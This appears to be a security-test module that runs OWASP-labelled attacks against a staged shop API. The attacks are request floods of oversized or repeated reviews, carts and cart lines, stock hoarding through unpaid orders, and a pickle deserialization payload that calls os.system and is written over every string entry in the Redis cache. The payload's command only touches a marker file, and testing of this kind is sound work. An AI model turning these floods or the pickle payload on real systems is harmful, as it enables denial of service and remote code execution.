"""Stock, memory and tables of the shop, filled by nobody in particular."""

import pickle
from pathlib import Path
from typing import Any

from redis import Redis

from .victim import Victim, at_once, counted

# More than any review says.
LONG = "long " * 500_000


def long_reviews(victim: Victim) -> tuple[int, str]:
    """100 anonymous reviews of 2.5 MB, then one look at them."""
    path = f"/store/products/{victim.value('SELECT min(id) FROM store_product')}/reviews/"
    body = {"name": "Ann", "description": LONG}
    answers = at_once(
        lambda _: victim.ask("POST", path, body, address="198.18.40.1").status, 100, 8
    )
    size = len(victim.ask("GET", path).content)
    return 100, f"{counted(answers)}; the page: {size / 1e6:.1f} MB"


def many_reviews(victim: Victim) -> tuple[int, str]:
    """300 short reviews from one address."""
    path = f"/store/products/{victim.value('SELECT max(id) FROM store_product')}/reviews/"
    body = {"name": "Ann", "description": "Good."}
    return 300, counted(
        at_once(lambda _: victim.ask("POST", path, body, address="198.18.41.1").status, 300)
    )


def many_carts(victim: Victim) -> tuple[int, str]:
    """1,000 carts from one address."""
    return 1000, counted(
        at_once(
            lambda _: victim.ask("POST", "/store/carts/", {}, address="198.18.42.1").status, 1000
        )
    )


def lines_of_a_cart(victim: Victim) -> tuple[int, str]:
    """Each product of the shop in one cart."""
    cart = victim.cart()
    highest = victim.value("SELECT max(id) FROM store_product")

    def add(i: int) -> int:
        body = {"product_id": highest - i, "quantity": 1}
        path = f"/store/carts/{cart}/items/"
        return victim.ask("POST", path, body, address=f"198.18.43.{i % 250}").status

    return 600, counted(at_once(add, 600))


def hoarded_stock(victim: Victim) -> tuple[int, str]:
    """50 orders of one customer that nobody pays."""
    victim.people(hoarder="")
    token = victim.token("hoarder")
    carts = [victim.cart() for _ in range(50)]

    def place(i: int) -> int:
        return victim.ask("POST", "/store/orders/", {"cart_id": carts[i]}, token=token).status

    return 50, counted(at_once(place, 50, 8))


class Bomb:
    """What runs a command wherever its pickle is read."""

    def __init__(self, file: Path) -> None:
        self.file = file

    def __reduce__(self) -> Any:
        import os

        return os.system, (f"touch {self.file}",)


def pickles_in_the_cache(victim: Victim) -> tuple[int, str]:
    """Pickles that run a command, in the place of everything in Redis."""
    victim.people(cached="u.is_staff = u.is_superuser = True; u.save()")
    token = victim.token("cached")
    paths = ["/store/products/", "/store/reports/best_sellers/", "/auth/users/me/"]
    for path in paths:
        victim.ask("GET", path, token=token)
    file = victim.stage.folder / "exploded"
    with Redis.from_url(f"{victim.stage.redis}/0") as redis:
        keys = [key for key in redis.scan_iter() if redis.type(key) == b"string"]
        for key in keys:
            redis.set(key, pickle.dumps(Bomb(file)))
        statuses = [victim.ask("GET", path, token=token).status for path in paths]
        statuses.append(victim.sign_in("cached").status)
        redis.flushdb()
    ran = "the command ran" if file.exists() else "no command ran"
    return len(keys), f"{ran}; {counted(statuses)}"


ATTACKS = {
    "API4: reviews of 2.5 MB": long_reviews,
    "API4: reviews from one address": many_reviews,
    "API4: carts from one address": many_carts,
    "API4: lines of one cart": lines_of_a_cart,
    "API6: stock in unpaid orders": hoarded_stock,
    "API8: pickles in Redis": pickles_in_the_cache,
}
